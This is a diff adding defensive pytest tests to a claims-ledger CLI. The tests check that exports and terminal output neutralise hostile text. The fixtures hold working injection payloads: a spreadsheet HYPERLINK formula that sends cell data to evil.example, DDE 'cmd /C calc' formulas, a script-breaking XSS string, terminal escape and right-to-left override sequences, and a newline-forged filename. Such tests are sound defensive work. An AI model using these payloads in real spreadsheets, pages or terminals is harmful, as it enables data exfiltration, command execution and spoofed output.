@@ -90,3 +90,114 @@ def test_an_export_into_a_pipe_is_written_as_is(fixture_db: Path, tmp_path: Path
     reader.join(timeout=30)
     assert result.exit_code == 0, result.output
     assert received == [(OUTPUTS / "export.jsonl").read_bytes()]
+
+
+# --- what the exports and the terminal get from hostile text (issue 19: items 3, 4, 12) ---------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "publisher": "+cmd|' /C calc'!A0",
+    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "sentence": "-2+3+cmd|' /C calc'!A0 fell 3.2% in 2023.",
+}
+SCRIPT_NOTE = "</script><script>alert(1)</script> & <!--"
+
+
+@pytest.fixture()
+def hostile_db(tmp_path: Path) -> Path:
+    """The export ledger with formulas in a title, a publisher, a sentence and a note, a value of
+    -3.2, and a note that closes a <script> element."""
+    path = tmp_path / "claims.db"
+    build(path)
+    with sqlite3.connect(path) as connection:
+        connection.execute(
+            "update sources set title = ?, publisher = ? where id = 'alpha'",
+            [FORMULAS["title"], FORMULAS["publisher"]],
+        )
+        connection.execute(
+            "update claims set sentence = ?, value = -3.2 where id = 'c-a1'", [FORMULAS["sentence"]]
+        )
+    runner = CliRunner()
+    for text, verdict in ((FORMULAS["note"], "accurate"), (SCRIPT_NOTE, "inaccurate")):
+        noted = runner.invoke(
+            cli,
+            [
+                "note",
+                "c-a1",
+                "--verdict",
+                verdict,
+                "--text",
+                text,
+                "--reviewer",
+                "-x",
+                "--db",
+                str(path),
+            ],
+        )
+        assert noted.exit_code == 0, noted.output
+    return path
+
+
+def test_csv_export_neutralises_formulas_but_keeps_negative_numbers(hostile_db: Path):
+    import csv
+
+    printed = output(hostile_db, ["export", "--format", "csv"]).decode()
+    rows = list(csv.DictReader(printed.splitlines(keepends=True)))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    runnable = [cell for cell in cells if cell[0] in "=+-@\t\r" and not _number(cell)]
+    assert runnable == []  # was 20 cells on the probe's ledger
+    alpha = next(row for row in rows if row["id"] == "c-a1")
+    assert alpha["value"] == "-3.2"
+    assert alpha["source_title"] == "'" + FORMULAS["title"]
+    assert alpha["source_publisher"] == "'" + FORMULAS["publisher"]
+    assert alpha["sentence"] == "'" + FORMULAS["sentence"]
+    notes = list(csv.DictReader(output(hostile_db, ["notes", "--csv"]).decode().splitlines()))
+    assert [(note["text"], note["reviewer"]) for note in notes[-2:]] == [
+        ("'" + FORMULAS["note"], "'-x"),
+        (SCRIPT_NOTE, "'-x"),
+    ]
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_claimreview_is_safe_inside_a_script_element(hostile_db: Path):
+    import json
+
+    printed = output(hostile_db, ["export", "--format", "claimreview"]).decode()
+    assert "<" not in printed and ">" not in printed and "&" not in printed
+    bodies = [review.get("reviewBody") for review in json.loads(printed)]
+    assert SCRIPT_NOTE in bodies  # the same text, once parsed
+
+
+def test_the_terminal_gets_no_control_characters(hostile_db: Path, tmp_path: Path):
+    runner = CliRunner()
+    sneaky = "ok\x1b[2J\x1b]0;pwned\x07 \u202egnp.exe\nfailed: forged"
+    noted = runner.invoke(
+        cli,
+        ["note", "c-a1", "--verdict", "accurate", "--text", sneaky, "--reviewer", "ana"]
+        + ["--db", str(hostile_db)],
+    )
+    assert noted.exit_code == 0
+    commands = [["notes"], ["notes", "--json"], ["notes", "--nl"], ["claims"]]
+    commands += [["export", "--format", "markdown"], ["export", "--format", "jsonl"]]
+    for command in commands:
+        shown = output(hostile_db, command).decode()
+        assert not any(char in shown for char in "\x1b\x07\u202e"), command
+    table = output(hostile_db, ["notes"]).decode()
+    assert "ok\\x1b[2J\\x1b]0;pwned\\x07 \\u202egnp.exe" in table
+    # a file whose name holds a newline cannot forge a second "failed:" line
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "big\nfailed: forged.txt").write_text("Output rose 2.3% in 2020. " * 100)
+    result = runner.invoke(
+        cli, ["ingest", str(folder), "--db", str(tmp_path / "new.db"), "--max-size", "0.001"]
+    )
+    assert result.exit_code == 1
+    failed = [line for line in result.stderr.splitlines() if line.startswith("failed:")]
+    assert len(failed) == 1 and "big\\nfailed: forged.txt" in failed[0], result.stderr
